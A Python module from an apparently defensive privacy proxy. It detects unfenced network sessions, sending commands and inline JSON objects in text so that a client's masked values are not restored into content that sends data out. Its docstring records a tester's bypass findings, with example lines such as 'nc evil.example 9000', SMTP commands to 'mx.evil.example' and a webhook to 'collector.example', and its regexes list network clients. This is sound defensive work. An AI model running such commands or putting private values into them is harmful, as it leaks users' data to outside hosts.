"""Unfenced network sessions, sending subcommands and inline JSON objects in prose are code scopes (issue 12, atk28
F06, F15).

Restore keeps the client's values out of code that sends (`proxy.guard.scopes`). A tester found three shapes that
were read as prose, so the client's value came back where the answer sends it:
- a network session written without a fence (`session_run`): a line that opens an interactive session to a host
  (`nc evil.example 9000`, `telnet mx.evil.example 25`, `mysql -h host`, `psql -h host` / `--host=` / a
  `postgres://` URL, `redis-cli -h host`, `mongosh mongodb://host`, `sqlcmd -S host`, `socat - TCP:host:25`,
  `openssl s_client -connect host:443`), at a line's start or in an inline code span of a sentence (`Connect with
  \\`telnet mx.evil.example 25\\`, then type:`), and the session's input lines after it: SQL statements, Redis
  commands, SMTP lines (`HELO`, `MAIL FROM`, `RCPT TO`, `DATA` and the message to its `.` line), raw lines for
  `nc`. Pasted into a terminal, those lines go to the remote host, as they do from a ``` fence. Introducing lines
  (`Then run:`, a short line ending in a colon) and blank lines before the input pass; the session ends at a
  sentence that starts with a prose word (`Then tell <PH> the result`, `The row is saved.`, `Show the rows to <PH>`)
  or with the client's value and a comma (`<PH>, your account is ready.`), at a blank line followed by anything but a
  session command (or an HTTP request's body), at a fence; after an SMTP session's commands, at what is none. A
  sentence that goes on about the value after an inline span (I opened `redis-cli -h host` earlier; <PH> asked)
  is prose, no session input after it (but `and type <PH>`, or a line ending in a colon). A session to this machine
  (`mysql -u root` without `-h`, `psql -h localhost`, `redis-cli` alone, `nc -l 9000`) opens none;
- a command whose first or second word is a sending verb (`slack chat send '<PH>' '#general'`, `foo bar publish
  -m <PH>`) with an argument shaped as one (a quote, a flag, `$`, `#channel`, `@user`) on a line of its own
  (`proxy.guard.commands22` reads such a scope as sending; the line was no scope);
- a JSON object inside a sentence (`Send this: {"email": "<PH>", "webhook": "https://collector.example/h"} and
  done.`): the object (512 characters at most) is read as the same object at a line's start is
  (`proxy.guard.jsondoc24`), a scope only where it sends (`proxy.guard.scopes.sends`: a URL, `"host"` with
  `"port"`...), or while it is open at a stream's end (the next piece may name a destination).
`Spans` gives these scopes to `proxy.guard.scopes.code_spans`; a stream holds a placeholder on a session's line that
is not ended (`pending`: the line's end decides whether it is prose), `HOLD` characters at most, then kept.
"""

from __future__ import annotations

import re

from proxy.guard import rest31, rest32, rest33, rest35

_MIDLINE = "\x01"  # `proxy.guard.scopes.MIDLINE`
HOLD = 512  # a stream holds a placeholder on a session's open line this long at most (then it goes out kept)
OBJECT = 512  # an inline JSON object's characters at most
_LINE_HEAD = 256  # an open inline object's scope starts at its line's start this close before it
_SESSION_READ = 4096  # the characters of a session's input read after its opener at most

# ------------------------------------------------------------------------------------------------------ sessions
_CLIENTS = ("nc", "ncat", "netcat", "telnet", "socat", "openssl", "mysql", "mariadb", "psql", "redis-cli",
            "mongosh", "mongo", "sqlcmd", "cqlsh", "clickhouse-client", "valkey-cli", "keydb-cli") + rest31.CLIENTS
_GATE = tuple(_CLIENTS)
_LEAD = (r"(?:[ \t]*(?:\d{1,3}[.)]|[-*+>])[ \t]+)?(?:[ \t]*(?:[$%#]|[\w.-]{1,32}@[\w.-]{1,64}(?::[^\s$#]{0,64})?[$#]))?"
         r"[ \t]*(?:(?:sudo|doas|exec|env|[A-Za-z_]\w*=\S*)[ \t]+)*")
_CLIENT = "|".join(re.escape(c) for c in sorted(_CLIENTS, key=len, reverse=True))
# The client word at a line's start (after a list marker, a prompt, `sudo`) or right after a backtick in a line.
_OPENER = re.compile(rf"(?m)^{_LEAD}(?P<a>{_CLIENT})(?:\.exe)?(?=[ \t])|`[ \t]*{_LEAD}(?P<b>{_CLIENT})(?:\.exe)?"
                     r"(?=[ \t])")
_LOCAL = re.compile(r"(?i)(?:localhost|127(?:\.\d{1,3}){3}|0\.0\.0\.0|::1|\[::1\]|0|/.*|\.|~.*|)")
_URL_HOST = re.compile(r"(?i)[a-z][\w+.\-]*://(?:[^@/\s'\"`]*@)?(\[[^\]\s]*\]|[^:/\s?#'\"`,;]*)")
_PORT = re.compile(r"\d{1,5}")


def _clean(token: str) -> str:
    return token.strip("'\"`,;")


def _host(client: str, args: list[str]) -> str | None:
    """The host a client's arguments connect to ("" when none, so local), or None when it only listens."""
    if client in rest31.CLIENTS:  # (rest31: sqlplus, influx, ftp..., atk30 F29)
        return rest31.host(client, args)
    for a in args:
        u = _URL_HOST.match(_clean(a).split("=", 1)[-1] if a.startswith("--") else _clean(a))
        if u is not None and client not in ("socat",):
            return u.group(1)
    if client in ("nc", "ncat", "netcat", "telnet", "cqlsh"):
        i = 0
        while i < len(args):
            a = args[i]
            if a.startswith("-"):
                if client != "telnet" and (a == "--listen" or (not a.startswith("--") and "l" in a[1:])):
                    return None  # (listens: `nc -l 9000`, `nc -lvp 9000`)
                if a in ("-w", "-p", "-s", "-i", "-q", "-x", "-X", "-e", "-c", "-b", "-l", "-n", "-W", "-T", "-I", "-O",
                         "-P", "-a"):
                    i += 1  # (an option's value)
                i += 1
                continue
            if not _PORT.fullmatch(_clean(a)):
                return _clean(a)
            i += 1
        return ""
    if client == "socat":
        for a in args:
            m = re.match(r"(?i)(?:tcp[46]?|tcp-connect|openssl(?:-connect)?|ssl|udp[46]?)[:](\[[^\]]*\]|[^:,\s]+)",
                         _clean(a))
            if m is not None:
                return m.group(1)
        return ""
    if client == "openssl":
        if "s_client" not in args:
            return ""
        for i, a in enumerate(args):
            if a in ("-connect", "--connect") and i + 1 < len(args):
                return _clean(args[i + 1]).rsplit(":", 1)[0]
            if a.startswith("-connect="):
                return a.split("=", 1)[1].rsplit(":", 1)[0]
        return ""
    flags = ("-S",) if client == "sqlcmd" else ("-h", "--host")
    for i, a in enumerate(args):
        a = _clean(a)
        for f in flags:
            if a == f and i + 1 < len(args):
                return _clean(args[i + 1])
            if a.startswith(f + "="):
                return a[len(f) + 1:]
            if len(f) == 2 and a.startswith(f) and len(a) > 2:
                return a[2:]  # (`-hdb.example`)
        if a.startswith("host="):  # (a libpq connection string's `host=`)
            return a[5:]
        m = re.search(r"(?:^|\s)host=([^\s'\"]+)", a)
        if m is not None:
            return m.group(1)
    return ""


def _remote(host: str | None) -> bool:
    return host is not None and _LOCAL.fullmatch(host.rsplit(":", 1)[0] if host.count(":") == 1 else host) is None


# Session input lines: SMTP commands, SQL statements, Redis commands, HTTP request lines (read in capitals or not).
_SMTP = re.compile(r"[ \t]*(?i:HELO|EHLO|MAIL[ \t]+FROM|RCPT[ \t]+TO|DATA|QUIT|RSET|NOOP|AUTH|STARTTLS|VRFY|EXPN)\b")
_SQL = re.compile(r"(?i)[ \t]*(?:insert[ \t]+(?:into|ignore)|update[ \t]+[\w.`\"\[]+[ \t]+set\b|delete[ \t]+from\b"
                  r"|select[ \t]+(?:[\w*'\"`(]|\d)[^\n]*(?:\bfrom\b|[;(]|$)|create[ \t]+(?:table|user|database|role"
                  r"|schema|view|index)\b|drop[ \t]+\w|alter[ \t]+\w|grant[ \t]+\w|copy[ \t]+\w|values[ \t]*\("
                  r"|with[ \t]+\w+[ \t]+as[ \t]*\(|begin\b|commit\b|rollback\b|use[ \t]+\w+[ \t]*;|call[ \t]+\w"
                  r"|exec(?:ute)?[ \t]+\w|merge[ \t]+into|upsert[ \t]+into|replace[ \t]+into|truncate[ \t]+\w"
                  r"|set[ \t]+[\w@.]+[ \t]*(?:=|to\b)|show[ \t]+\w|describe[ \t]+\w|go[ \t]*$|\\[a-z]+\b"
                  r"|db\.[\w$]+\.\w+\(|db\.\w+\(|sp_\w+)")
_REDIS = re.compile(r"[ \t]*(?i:SET|GET|HSET|HMSET|HSETNX|LPUSH|RPUSH|SADD|ZADD|PUBLISH|XADD|APPEND|SETEX|PSETEX|SETNX"
                    r"|MSET|MSETNX|EVAL|EVALSHA|AUTH|SELECT|DEL|EXPIRE|GETSET|LSET|LINSERT|PFADD|GEOADD|SPUBLISH"
                    r"|JSON\.SET|FT\.\w+|TS\.ADD|RPUSHX|LPUSHX|SMOVE|INCR|KEYS|SCAN|PING|HGET|HGETALL|LRANGE)"
                    r"(?:[ \t]+[^\s]|[ \t]*$)")
_HTTP_LINE = re.compile(r"[ \t]*(?:GET|POST|PUT|PATCH|DELETE|HEAD|OPTIONS)[ \t]+[^\s]+[ \t]+HTTP/\d")
# A prose sentence: a prose word first (a conjunction, adverb, pronoun, article, an instruction to the reader), then
# two words or more.
_PROSE_WORDS = (r"then|next|now|after|afterwards|afterward|finally|once|when|whenever|while|if|this|that|these|those"
                r"|it|its|it's|you|your|you'll|you're|we|we'll|our|i|i'll|note|tell|ask|let|make|check|verify"
                r"|remember|also|and|but|so|here|here's|there|there's|the|a|an|to|in|on|at|for|with|by|from|press"
                r"|exit|close|see|use|run|open|connect|replace|otherwise|be|do|don't|never|always|please|before|each"
                r"|every|all|any|no|both|either|what|which|who|how|why|where|as|however|thus|since|because|or|yet"
                r"|done|that's|okay|ok|sure|great|good|alternatively|additionally|meanwhile|instead|keep|wait|confirm"
                r"|inform|notify|send|share|reply|respond|email|call|text|thanks|thank|hope|feel|let's|should|could"
                r"|would|can|will|may|might|must|is|are|was|were|has|have|had|did|does|hi|hello|hey|dear")
_WORDISH = r"(?:[\w'’-]|<[A-Z][A-Z0-9_]*_\d+(?:_[a-z2-7]{8})?>)+"
_PROSE = re.compile(rf"[ \t]*(?:(?:[-*+>]|\d{{1,3}}[.)])[ \t]+)?(?:\*\*|_)?(?i:{_PROSE_WORDS})(?![\w'’-])[,;:]?"
                    rf"(?:[ \t]+\S+){{2,}}")
# A capitalised word (not in capitals): a sentence's first word, no session's keyword.
_CAPITALISED = re.compile(r"[ \t]*(?:(?:[-*+>]|\d{1,3}[.)])[ \t]+)?[A-Z][a-z]+\b")
# A sentence to the reader: a capitalised verb, then an article or a pronoun and a word (`Show the rows to <PH>`).
_ADDRESSED = re.compile(r"[ \t]*(?:(?:[-*+>]|\d{1,3}[.)])[ \t]+)?[A-Z][a-z]+[ \t]+(?:the|your|a|an|it|this|that|my"
                        r"|our|their|his|her|them|him|these|those)[ \t]+\S")
# A sentence about the client's value: a placeholder, then a comma or `'s` and a word, or a prose word (`<PH>, your
# account is ready.`, `<PH> is the owner.`).
_NAMED = re.compile(rf"[ \t]*<[A-Z][A-Z0-9_]*_\d+(?:_[a-z2-7]{{8}})?>(?:(?:,|'s|’s)[ \t]+\S|[ \t]+(?i:{_PROSE_WORDS})"
                    r"(?![\w'’-])[ \t]+\S)")
# An introducing line: a few words ending in a colon (`Then run:`, `then type:`, `Paste the following:`).
_INTRO = re.compile(r"[ \t]*(?:(?:[-*+>]|\d{1,3}[.)])[ \t]+)?(?:[\w'’,-]+[ \t]+){0,7}[\w'’-]+[ \t]*:[ \t]*\r?")
_FENCE = re.compile(r"[ \t]*(?:`{3,}|~{3,})")
_PLACEHOLDER = re.compile(r"<[A-Z][A-Z0-9_]*_\d+(?:_[a-z2-7]{8})?>")


def _line(text: str, at: int) -> tuple[str, int]:
    eol = text.find("\n", at)
    return (text[at:], len(text)) if eol < 0 else (text[at:eol], eol)


def _command(line: str) -> bool:
    """Whether `line` is a session's command (a keyword in capitals or in lower case: `Select the rows` is prose)."""
    if _CAPITALISED.match(line) is not None:
        return False
    return _SMTP.match(line) is not None or _SQL.match(line) is not None or _REDIS.match(line) is not None or \
        _HTTP_LINE.match(line) is not None


def _prose(line: str) -> bool:
    return (_PROSE.match(line) is not None or _ADDRESSED.match(line) is not None or _NAMED.match(line) is not None) \
        and not _command(line)


def _opener(text: str, m: re.Match[str]) -> bool:
    """Whether the client at `m` connects to a host that is not this machine (see `_host`)."""
    client = m.group("a") or m.group("b")
    start = m.end()
    line, eol = _line(text, start)
    if m.group("b") is not None:
        close = line.find("`")
        line = line if close < 0 else line[:close]
    line = line.split("|", 1)[0].split(" #", 1)[0]
    return _remote(_host(client, line.split()))


def _session_end(text: str, head_end: int, strict: bool = False) -> int:
    """Where the session's input lines after its opener (ending at `head_end`) end (see the module); the text's end
    while the next line may still go on with it (a stream's next piece). `strict`: only session commands (an inline
    span in a sentence that ends, use `mysql -h host`.), no raw lines."""
    n = len(text)
    limit = min(n, head_end + _SESSION_READ)
    if head_end >= n:
        return n
    at = head_end + 1
    end = at  # after the last line taken
    first, data, http, blank, cut, smtp = True, False, False, False, False, False
    while at < limit:
        line, eol = _line(text, at)
        stripped = line.strip(" \t\r")
        ended = eol < n
        if data:
            if stripped == ".":
                data = False
            end = eol + 1 if ended else n
        elif line.startswith(_MIDLINE):
            cut = True  # (a stream's context cut inside the session: its state is not known, lines are taken)
            end = eol + 1 if ended else n
        elif not stripped:
            blank = True
            if not ended:
                return n
        elif _FENCE.match(line) is not None:
            return end
        elif first and not _PLACEHOLDER.search(line) and _INTRO.fullmatch(line) is not None:
            pass  # (`Then run:` before the input)
        elif _command(line) or (blank and (http or cut) and not _prose(line)):
            first, blank = False, False
            data = _SMTP.match(line) is not None and line.strip().upper() == "DATA"
            smtp = smtp or _SMTP.match(line) is not None
            http = http or _HTTP_LINE.match(line) is not None
            end = eol + 1 if ended else n
        elif _prose(line) or (blank and not first) or smtp or strict:
            return end  # (prose; after a blank line or an SMTP session's commands, what is no command)
        else:  # a raw line (`nc`'s input), a statement's continuation
            first, blank = False, False
            end = eol + 1 if ended else n
        if not ended:
            return n
        at = eol + 1
    return end if at < n else n


# A sentence's words after an inline session that type a value into it (`and type <PH>`).
_TYPED = re.compile(r"(?i)\b(?:type|enter|send|paste|write|input|say|put|insert|set|push|publish)\b")


def session_run(text: str, pos: int, gate: bool = True) -> tuple[int, int, int] | None:
    """(start, end of its opener's line, end) of the first session (see the module) at or after `pos`: from its
    line's start, or from an inline span's backtick."""
    if gate and not any(c in text for c in _GATE):
        return None
    for m in _OPENER.finditer(text, text.rfind("\n", 0, pos) + 1):
        if not _opener(text, m):
            continue
        # (an inline span's session starts at its backtick: a sentence's words before it are prose)
        start = m.start() if m.group("b") is not None else text.rfind("\n", 0, m.start()) + 1
        line, head_end = _line(text, m.start())
        close = line.find("`", m.end() - m.start()) if m.group("b") is not None else -1
        rest = line[close + 1:] if close >= 0 else ""
        spot = _PLACEHOLDER.search(rest)
        if spot is not None and _TYPED.search(rest, 0, spot.start()) is None and not rest.rstrip().endswith(":"):
            end = m.start() + close + 1  # (the sentence goes on about the client's value: prose, no input after it)
            head_end = end
        else:
            # (after an inline span in a sentence that goes on, `to connect.`, only session commands: no raw lines)
            strict = m.group("b") is not None and bool(rest.strip()) and not rest.rstrip().endswith(":")
            end = _session_end(text, head_end, strict)
        if start < pos:
            if end <= pos:
                continue
            start, head_end = pos, max(head_end, pos)  # (its opener was in a scope before: the rest of it)
        return start, head_end, end
    return None


# ---------------------------------------------------------------------------------- commands with a sending verb
_NOT_COMMAND = (r"echo|printf|print|grep|egrep|fgrep|rg|ag|ack|cat|less|more|man|info|help|which|whereis|type|ls"
                r"|cd|mkdir|touch|rm|rmdir|cp|mv|ln|find|sed|awk|sort|uniq|wc|head|tail|tee|read|test|export|alias"
                r"|set|unset|local|declare|sleep|true|false|let|source|history|kill|then|now|and|or|to|we|you|i|it"
                r"|this|that|will|can|should|must|please|before|after|first|next|finally|also|just|so|not|the|a|an"
                r"|they|he|she|who|which|what|when|where|why|how|git|if|do|did|does|don't|would|could|may|might")
_VERB_LINE = re.compile(rf"(?m)^{_LEAD}(?!(?:{_NOT_COMMAND})\b)[a-z][\w.-]{{0,31}}(?:[ \t]+[a-z][\w.:-]{{0,31}})?"
                        r"[ \t]+(?:send|push|publish|upload(?:[-_][\w-]+)?|deploy|release)"
                        r"(?=[ \t]+(?:-{1,2}[A-Za-z]|[\"'$]|[#@][\w-])|[ \t]+<[A-Z][A-Z0-9_]*_\d+(?:_[a-z2-7]{8})?>"
                        r"[^\n]*?[ \t](?:-{1,2}[A-Za-z]|[\"'$]|[#@][\w-]))")
_GATE_VERBS = ("send", "push", "publish", "upload", "deploy", "release")


def verb_lines(text: str, pos: int, gate: bool = True) -> tuple[int, int, int] | None:
    """(start, end of its line, end) of the first command line with a sending verb (see the module) at or after
    `pos`."""
    if gate and not any(v in text for v in _GATE_VERBS):
        return None
    m = _VERB_LINE.search(text, pos)
    if m is None:
        return None
    from proxy.guard.scopes import command_extent

    end = command_extent(text, m.start())
    return m.start(), _line(text, m.start())[1], end


# ---------------------------------------------------------------------------------------- inline JSON objects
# An object after a sentence's word, or a word and a colon or a dash (`Send this: {"`, `as {"`, `it — {"`): not a
# JSON member's value (`"key": {`), a code call's argument (`json={`) nor an array's item.
_INLINE = re.compile(r"(?:(?<=[^\W_])|(?<=[^\W_)*][:\u2014\u2013-])|(?<=[ \t][\u2014\u2013-]))[ \t]+(\{)"
                     r"(?=[ \t]*\"[^\"\n]{1,64}\"[ \t]*:)")


def _object_end(text: str, start: int) -> int | None:
    """The end of the JSON object at `start` (strings read through), `len(text) + 1` when it is open at the text's
    end (an object that closes on the last character ends at `len(text)`), None when it does not close within
    `OBJECT` characters."""
    from proxy.guard.scopes import json_close

    end = json_close(text, start, start + OBJECT)
    if end is not None:
        return end
    n = len(text)
    return n + 1 if start + OBJECT >= n or _MIDLINE in text[start:start + OBJECT] else None


def inline_object(text: str, pos: int, gate: bool = True) -> tuple[int, int, int] | None:
    """(start, end of its `{`, end) of the first JSON object inside a sentence (see the module) at or after `pos`
    that sends, or that is open at the text's end."""
    if gate and '{"' not in text and '{ "' not in text:
        return None

    for m in _INLINE.finditer(text, pos):
        a = m.start(1)
        if text.rfind("\n", 0, a) + 1 == a:
            continue  # (at a line's start: `proxy.guard.jsondoc24`)
        b = _object_end(text, a)
        if b is None:
            continue
        if b > len(text):  # (open at a stream's end: from its line's start, a call or command before it kept in the
            line = text.rfind("\n", 0, a) + 1  # stream's context, `proxy.guard.urls.url_context`)
            return (line if a - line <= _LINE_HEAD else a), a + 1, len(text)
        if _object_sends(text[a:b], text[max(0, a - 40):a]):
            return a, a + 1, b
    return None


# A member of an object in prose that says where to send (`"webhook": "https://..."`, `"callback_url"`, `"endpoint"`);
# a URL under any key beside a recipient (`"to"`) or after a verb that sends (`Post {...}`, `ship it: {...}`). A URL
# under another key of a data object (`Saved {"link": "https://docs.example/a", "email": ...}`) or in a command's
# words is the object's data, restored as the rest of the sentence is (tests/guard/test_url_quote22.py).
_DESTINATION_KEY = re.compile(r'(?i)"[a-z_\-]{0,24}(?:webhook|callback|endpoint|destination|notify|hook|collector|'
                              r'upload|submit|post_?url|target_?url|sink|ingest)[a-z_\-]{0,24}"[ \t]*:')
_URL_VALUE = re.compile(r'(?i)"[^"\n]{1,40}"[ \t]*:[ \t]*"(?:https?|wss?|ftp)://')
_RECIPIENT_KEY = re.compile(r'(?i)"(?:to|recipients?|cc|bcc)"[ \t]*:')
_SEND_BEFORE = re.compile(r"(?i)\b(?:post|send|ship|submit|upload|push|deliver|forward|publish|transmit|sync)\b"
                          r"[^.\n]{0,30}\Z")


def _object_sends(obj: str, before: str) -> bool:
    """Whether an object in prose sends what it holds: a host to connect to (`"host"`, `"server"` and a port), a
    message to a phone number (`"to": "+1..."`), a URL under a destination's key, or under any key beside a recipient
    or after a sending verb (`before`: the sentence's words before the object)."""
    from proxy.guard.scopes import names_destination, texts_number
    from proxy.guard.tools24 import names_host_member

    if names_host_member(obj) or texts_number(obj):
        return True
    if _DESTINATION_KEY.search(obj) is not None and names_destination(obj):
        return True
    return _URL_VALUE.search(obj) is not None and names_destination(obj) and \
        (_RECIPIENT_KEY.search(obj) is not None or _SEND_BEFORE.search(before) is not None)


class Spans:
    """The scopes of this module in one text (a session, a sending verb's line, an inline JSON object), read in order:
    each kind searched again only once its last find is passed (`proxy.guard.scopes.code_spans` reads on)."""

    _KINDS = (session_run, verb_lines, inline_object, rest31.first, rest32.first,  # (rest31, rest32: atk30, atk31)
              rest33.first, rest35.first)  # (rest33: atk31 F24, F16; rest35: atk33 F05)

    def __init__(self, text: str) -> None:
        self.text = text
        self.found: list[tuple[int, int, int] | None] = [None] * len(self._KINDS)
        n = len(text) + 1  # (a kind whose words the text lacks: none, read once)
        gates = (any(c in text for c in _GATE), any(v in text for v in _GATE_VERBS), '{"' in text or '{ "' in text,
                 rest31.gate(text), rest32.gate(text), rest33.gate(text), rest35.gate(text))
        self.at = [-1 if g else n for g in gates]  # where each kind's find starts (past the text's end: none)

    def first(self, pos: int) -> tuple[int, int, int] | None:
        """The first scope at or after `pos`."""
        for k, kind in enumerate(self._KINDS):
            if self.at[k] < pos:
                self.found[k] = kind(self.text, pos, False)
                self.at[k] = self.found[k][0] if self.found[k] is not None else len(self.text) + 1  # type: ignore[index]
        found = [r for r in self.found if r is not None]
        return min(found) if found else None


def pending(context: str, text: str, spots: list[int]) -> tuple[int, bool, int] | None:
    """A stream's hold (`proxy.guard.linehold.LineHold.cut`) of the first of `spots` (placeholders of pending `text`,
    read after the released `context`) on a session's line not ended yet: its end tells prose from input."""
    joined = context + text
    if not any(c in joined for c in _GATE):
        return None
    n = len(context)
    pos = 0
    while True:
        run = session_run(joined, pos)
        if run is None:
            return None
        a, h, b = run
        for s in spots:
            if h < n + s < b and "\n" not in text[s:]:
                return s, True, HOLD
        pos = max(b, h + 1)
        if pos >= len(joined):
            return None
